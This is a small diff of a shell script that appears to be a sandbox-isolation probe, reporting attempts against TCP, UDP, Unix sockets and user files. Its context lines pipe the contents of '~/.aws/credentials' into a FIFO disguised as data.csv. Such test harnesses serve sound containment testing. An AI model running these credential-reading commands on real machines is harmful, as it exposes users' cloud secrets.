@@ -10,7 +10,7 @@
 [ $# -ge 8 ] || { echo "usage: $0 TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES" >&2; exit 2; }
 command -v mkfifo >/dev/null 2>&1 || { echo "CANNOT $1 mkfifo is not installed" >&2; exit 3; }
 command -v timeout >/dev/null 2>&1 || { echo "CANNOT $1 timeout is not installed" >&2; exit 3; }
-echo "ATTEMPTED $1" >&2
+(echo "ATTEMPTED $1" >&2)
 rm -f data.csv
 mkfifo data.csv || exit 1
 timeout 10 sh -c 'cat "$1/.aws/credentials" > data.csv' "writer-$1" "$2" \
